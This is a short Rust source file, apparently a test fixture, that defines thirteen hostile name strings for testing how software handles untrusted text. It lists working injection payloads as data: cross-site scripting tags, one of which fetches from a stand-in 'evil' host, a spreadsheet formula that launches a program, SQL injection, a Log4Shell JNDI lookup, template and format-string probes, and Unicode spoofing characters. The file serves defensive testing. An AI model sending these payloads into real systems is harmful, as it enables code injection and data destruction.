//! What people could type, or somebody who means harm could make a laptop say: the same for stories of the engine and of
//! the window.

/// Names that break programs which take text for anything else.
pub(crate) const HOSTILE: [&str; 13] = [
    "<img src=x onerror='window.gotIn=true'>",
    "\"><a href=\"javascript:window.gotIn=true\">Ana</a>",
    "<script>fetch('//evil')</script>",
    "\u{202e}zepóL anA\u{202c}",
    "Ana\u{200b}\u{feff}\u{2066}López",
    "😀👩‍👩‍👧‍👦🏴‍☠️",
    "=cmd|'/c calc'!A1",
    "+1+1; @SUM(A1)",
    "'; DROP TABLE record; --",
    "\" OR \"*\" NEAR(a b) *",
    "%s%n ${jndi:ldap://x} {{7*7}}",
    "a\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}\u{301}",
    "ﷺﷺﷺ NUL and\ttab\r\nline",
];
